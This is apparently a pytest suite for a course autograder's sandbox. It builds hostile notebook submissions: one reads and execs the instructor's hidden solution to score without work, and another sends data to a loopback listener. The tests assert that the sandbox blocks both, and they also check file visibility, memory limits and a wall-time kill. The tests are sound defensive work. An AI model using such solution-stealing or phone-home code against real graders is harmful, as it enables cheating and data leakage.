"""The grading sandbox (autograder/sandbox/): hostile submissions graded by nbgrader, in and out of it."""

import socket
import threading

import nbformat
import pytest

from autograder.examples import Example, build
from autograder.nbg import REPO
from autograder.pipeline import grade
from autograder.report import table
from autograder.sandbox import SandboxConfig, bwrap_command, probe

pytestmark = pytest.mark.slow
SANDBOX_OK, SANDBOX_WHY = probe()
needs_sandbox = pytest.mark.skipif(not SANDBOX_OK, reason=f"no sandbox on this machine: {SANDBOX_WHY}")

ASSIGNMENT, NOTEBOOK = "03_self_attention", "03_self_attention.ipynb"

# answer cell 1: copy the instructor's solution out of source/ (the attack: full marks without work)
STEAL = f"""
import json, pathlib
src = json.loads(pathlib.Path({str(REPO / "source" / ASSIGNMENT / NOTEBOOK)!r}).read_text())
exec(next("".join(c["source"]) for c in src["cells"]
          if c.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") == "sdpa_solution"))
"""

# answer cell 2: the honest causal mask, after phoning home to a listener on the grader's loopback
PHONE_HOME = """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"leaked")
    print("network: reached the grader")
except OSError as e:
    print("network: blocked:", e)

def causal_mask(n, device=None):
    return torch.ones(n, n, dtype=torch.bool, device=device).tril()
"""


class Listener:
    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(5)
        self.sock.settimeout(0.5)
        self.port, self.received, self.stop = self.sock.getsockname()[1], [], False
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.received.append(conn.recv(100))
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join()
        self.sock.close()


def _submit(tmp_path, port):
    src = nbformat.read(REPO / "source" / ASSIGNMENT / NOTEBOOK, 4)
    rel = nbformat.read(REPO / "release" / ASSIGNMENT / NOTEBOOK, 4)
    ex = Example(
        "mallory",
        ASSIGNMENT,
        NOTEBOOK,
        "hostile",
        "release",
        replace={"sdpa_solution": STEAL, "causal_mask_solution": PHONE_HOME.format(port=port)},
    )
    dest = tmp_path / "submissions" / "mallory" / ASSIGNMENT / NOTEBOOK
    dest.parent.mkdir(parents=True)
    nbformat.write(build(ex, src, rel), dest)
    return tmp_path / "submissions"


def _cell(results, gid):
    return next(c for r in results for c in r.cells if c.grade_id == gid)


@needs_sandbox
def test_sandbox_blocks_reading_the_solutions_and_the_network(tmp_path):
    listener = Listener()
    try:
        subs = _submit(tmp_path, listener.port)
        # without the sandbox the attacks work: the stolen solution scores, the grader's loopback hears it
        plain = grade(REPO, tmp_path / "plain", [ASSIGNMENT], subs, sandbox=False)
        assert _cell(plain, "test_scaled_dot_product_attention").score > 0
        assert b"leaked" in listener.received and plain[0].sandbox == "unsandboxed"
        listener.received.clear()
        boxed = grade(REPO, tmp_path / "boxed", [ASSIGNMENT], subs, sandbox=SandboxConfig())
    finally:
        listener.close()
    assert boxed[0].sandbox == "sandboxed" and "sandboxed" in table(boxed)
    assert _cell(boxed, "test_scaled_dot_product_attention").score == 0  # source/ is not there
    assert (
        "FileNotFoundError" in _cell(boxed, "test_scaled_dot_product_attention").message
        or "NameError" in _cell(boxed, "test_scaled_dot_product_attention").message
    )
    assert listener.received == []  # the loopback listener heard nothing
    assert (
        _cell(boxed, "test_causal_mask").score == _cell(boxed, "test_causal_mask").max_score
    )  # honest work still counts


@needs_sandbox
def test_kernel_view_and_limits(tmp_path):
    import subprocess
    import sys

    runtime = tmp_path / "runtime"
    runtime.mkdir()
    nb_dir = tmp_path / "autograded" / "mallory" / ASSIGNMENT
    nb_dir.mkdir(parents=True)
    (tmp_path / "gradebook.db").write_text("secret")
    config = SandboxConfig(bwrap=SANDBOX_WHY, runtime_dir=str(runtime), memory_gib=1)
    code = f"""
import os, resource
for p in [{str(REPO / "source")!r}, {str(REPO / "autograder")!r}, {str(tmp_path / "gradebook.db")!r}]:
    print(p, os.path.exists(p))
open("answer.txt", "w").write("mine")
try:
    open({str(REPO / "course" / "x.txt")!r}, "w")
except OSError as e:
    print("course read-only:", type(e).__name__)
limits = resource.getrlimit(resource.RLIMIT_DATA)[0], resource.getrlimit(resource.RLIMIT_NPROC)[0]
print("DATA", limits[0], "NPROC", limits[1])
try:
    bytearray(2 * 2**30)
except MemoryError:
    print("2 GiB refused")
"""
    out = subprocess.run(
        bwrap_command(config, str(nb_dir), [sys.executable, "-c", code]),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert out.returncode == 0, out.stderr
    lines = out.stdout.splitlines()
    assert all(line.endswith("False") for line in lines[:3]), lines  # no source/, autograder, gradebook
    assert "course read-only: OSError" in lines or "course read-only: PermissionError" in lines
    assert f"DATA {2**30} NPROC {config.max_processes}" in lines and "2 GiB refused" in lines
    assert (nb_dir / "answer.txt").read_text() == "mine"  # its own folder is writable


def test_unavailable_sandbox_is_reported(tmp_path):
    ok, why = probe(str(tmp_path / "no-bwrap-here"))
    assert not ok and "did not run" in why


@needs_sandbox
def test_an_endless_loop_is_killed_at_the_wall_time_limit_and_the_batch_goes_on(tmp_path):
    src = nbformat.read(REPO / "source" / ASSIGNMENT / NOTEBOOK, 4)
    rel = nbformat.read(REPO / "release" / ASSIGNMENT / NOTEBOOK, 4)
    for student, replace in (("looper", {"causal_mask_solution": "while True:\n    pass\n"}), ("honest", {})):
        dest = tmp_path / "subs" / student / ASSIGNMENT / NOTEBOOK
        dest.parent.mkdir(parents=True)
        nbformat.write(
            build(Example(student, ASSIGNMENT, NOTEBOOK, "", "solution", replace=replace), src, rel), dest
        )
    results = grade(
        REPO, tmp_path / "work", [ASSIGNMENT], tmp_path / "subs", sandbox=SandboxConfig(wall_s=45)
    )  # the honest notebook needs ~5 s
    by = {r.student: r for r in results}
    assert by["honest"].score == 14 and by["honest"].events == []
    assert by["looper"].score == 0 and by["looper"].max_score == by["honest"].max_score
    assert by["looper"].events == ["killed after the 45 s wall-time limit per notebook"]
    assert "what the sandbox stopped" in table(results)
